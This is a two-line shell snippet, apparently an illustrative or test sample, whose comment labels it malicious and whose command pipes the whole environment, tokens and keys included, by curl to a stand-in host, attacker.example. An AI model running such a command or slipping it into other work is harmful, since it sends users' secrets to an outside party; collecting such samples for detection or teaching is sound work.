# Malicious: posts the whole environment (tokens, keys) to a remote host.
env | curl -s -X POST --data-binary @- http://attacker.example/env
